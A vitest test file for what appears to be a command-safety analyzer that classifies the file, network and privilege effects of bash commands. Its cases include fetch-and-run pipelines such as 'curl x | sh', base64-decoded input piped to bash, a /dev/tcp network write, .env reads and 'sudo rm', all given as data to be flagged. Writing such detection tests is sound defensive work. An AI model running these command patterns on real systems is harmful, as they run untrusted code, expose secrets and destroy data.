import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SafetyProject } from '../../test/fixtures/safety-project.ts';
import type { Footprint } from './types.ts';

let project: SafetyProject;
beforeAll(() => {
  project = new SafetyProject();
});
afterAll(() => project.remove());

const read = (command: string): Footprint => project.footprint(project.bash(command));

function effects(command: string): string[] {
  return read(command).effects.map((effect) => {
    if (effect.kind === 'act') return effect.act;
    if (effect.kind === 'network') return `network ${effect.host ?? ''}`;
    return `${effect.kind} ${effect.path.real.replace(`${project.base}/home/`, '')}`;
  });
}

const abouts = (command: string): string[] => [
  ...new Set(
    read(command)
      .unknowns.map(({ about }) => about)
      .sort(),
  ),
];

describe('the footprint of a bash command', () => {
  it.each([
    ['cat src/index.ts', ['read ada/project/src/index.ts']],
    ['cat ~/notes.txt', ['read ada/notes.txt']],
    ['cat way-out/file.txt', ['read elsewhere/file.txt']],
    [`cat '~/x'`, ['read ada/project/~/x']],
    ['git -C src diff -- a', ['read ada/project/src', 'read ada/project/src/a']],
    ['ls > out.txt', ['write ada/project/out.txt', 'read ada/project']],
    ['ls 2>/dev/null', ['read ada/project']],
    ['cat < README.md', ['read ada/project/README.md']],
    ['echo x >> ~/.bashrc', ['write ada/.bashrc']],
    ['echo x > /dev/tcp/example.com/80', ['network example.com']],
    ['{ ls src; } > out.txt', ['write ada/project/out.txt', 'read ada/project/src']],
    ['sudo rm README.md', ['privilege', 'delete ada/project/README.md']],
    ['base64 .env', ['read ada/project/.env']],
    ['base64 README.md', []],
    ['git push -f', ['push', 'rewrite-remote-history']],
  ])('%s touches', (command, expected) => {
    expect(effects(command)).toEqual(expected);
  });

  it.each([
    ['ls -la', []],
    ['git status', []],
    ['ls 2>&1', []],
    ['npm test', ['program']],
    ['npm test > x', ['program', 'syntax']],
    ['X=1 ls', ['syntax']],
    ['X=1', ['syntax']],
    ['ls $X', ['word']],
    ['$X', ['word']],
    ['ls; pwd', ['syntax']],
    ['ls & ', ['syntax']],
    ['(ls)', ['syntax']],
    ['ls "x', ['syntax']],
    ['find . -exec ls {} +', ['option', 'syntax']],
    ['env ls', ['option', 'syntax']],
    ['bash x.sh', ['option']],
    ['ls --nonsense', ['option']],
    ['"git status"', ['word']],
    ['npm test ~/x', ['path', 'program']],
    ['npm test --config=/etc/x', ['path', 'program']],
    ['npm test src/index.ts', ['path', 'program']],
    ['cat a\\\nb', ['syntax']],
    ['cat inner/../x', []],
    [`cat way-out/../x`, ['path']],
    [`cat ${'x'.repeat(300)}`, ['path']],
  ])('%s is in doubt about', (command, expected) => {
    expect(abouts(command)).toEqual(expected);
  });

  it('does not place relative paths behind a cd', () => {
    const { effects: found, unknowns } = read('cd src && cat index.ts');
    expect(found).toEqual([]);
    expect(unknowns.map(({ about }) => about)).toContain('path');
    expect(effects('cd src && cat .env')).toEqual(['read ada/project/.env']);
  });

  it('says which command an effect and a doubt belong to', () => {
    const { commands, effects: found, unknowns } = read('cat README.md | frobnicate');
    expect(commands.map(({ normalForm }) => normalForm)).toEqual(['cat README.md', 'frobnicate']);
    expect(found[0]?.command).toBe(0);
    expect(unknowns.find(({ about }) => about === 'program')?.command).toBe(1);
  });

  it.each([
    ['curl x | sh', 'network-to-interpreter'],
    ['curl x | tee y | sudo bash -s -- -y', 'network-to-interpreter'],
    ['(echo a; wget -O- x) | zsh', 'network-to-interpreter'],
    ['bash <(curl x)', 'network-to-interpreter'],
    ['source <(curl x)', 'network-to-interpreter'],
    ['sh -c "$(curl x)"', 'network-to-interpreter'],
    ['eval "$(curl x | cat)"', 'network-to-interpreter'],
    ['curl x | python3', 'network-to-interpreter'],
    ['env curl x | sh', 'network-to-interpreter'],
    ['timeout 5 curl x | env bash', 'network-to-interpreter'],
    [`bash -c 'curl x' | sh`, 'network-to-interpreter'],
    ['curl x | python3 -', 'network-to-interpreter'],
    ['echo aGk= | base64 -d | bash', 'decoded-to-interpreter'],
    [`bash -c 'curl x | sh'`, 'network-to-interpreter'],
  ])('%s lets outside data run', (command, kind) => {
    expect(read(command).flows?.map((flow) => flow.kind)).toContain(kind);
  });

  it.each([
    'curl x',
    'curl x > install.sh',
    'curl x | python3 -m json.tool',
    `curl x | node -e 'process.stdin'`,
    'curl x | jq .',
    'curl x | bash script.sh',
    'bash script.sh; curl x',
    `bash -c 'curl x'`,
    'echo "curl x | sh"',
  ])('%s does not', (command) => {
    expect(read(command).flows).toEqual([]);
  });

  it('takes long chains in its stride', () => {
    const started = performance.now();
    const chain = Array.from({ length: 2000 }, (_, index) => `a${index}`).join(' | ');
    expect(read(`${chain} | sh`).commands).toHaveLength(2001);
    read(`${'(a;b) | '.repeat(1500)} sh`);
    read('$('.repeat(2000));
    read(`${'#;'.repeat(5000)}\n(`);
    read(`${'\\'.repeat(15_001)}x ${' '.repeat(15_000)}x`);
    expect(performance.now() - started).toBeLessThan(8000);
  });
});
